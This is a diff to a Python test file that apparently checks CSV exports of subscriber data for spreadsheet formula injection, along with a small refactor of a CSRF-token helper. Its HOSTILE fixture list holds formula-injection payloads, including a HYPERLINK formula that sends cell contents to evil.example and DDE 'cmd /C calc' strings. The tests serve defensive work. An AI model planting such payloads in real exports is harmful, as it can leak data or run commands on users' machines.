@@ -36,12 +36,13 @@ from subscribers.csv_cells import read_cell, safe_cell
 from subscribers.directory import update_subscriber
 from subscribers.subscriptions import add_subscriber
 from tests.conftest import ROOT, Cli, clean_environ
+from tests.textkit import must_match
 
 #: What a spreadsheet evaluates at the start of a cell (OWASP), spelled out here, not imported.
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 #: Subscribers whose address, name and attributes a spreadsheet would run, or nearly.
-HOSTILE = [
+HOSTILE: list[tuple[str, str, dict[str, object]]] = [
     ("=1+2@example.com", '=HYPERLINK("https://evil.example/?"&A1,"Click")', {"city": "=1+1", "plan": "+SUM(1;2)"}),
     ("+tag@example.com", "+1", {"city": "-2+3+cmd|' /C calc'!A0", "note": "\t=1+1"}),
     ("-2+3@example.com", "-", {"city": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "\r=1+1"}),
@@ -259,7 +260,7 @@ def without_times(rows: list[dict[str, str]]) -> list[dict[str, str]]:
 
 def admin_login(client: TestClient, username: str, password: str) -> None:
     form = client.get("/admin/login")
-    token = html.unescape(re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1))  # type: ignore[union-attr]
+    token = html.unescape(must_match(re.search(r'name="csrf_token" value="([^"]+)"', form.text)).group(1))
     answer = client.post("/admin/login", data={"username": username, "password": password, "csrf_token": token})
     assert answer.status_code == 303, answer.text
 
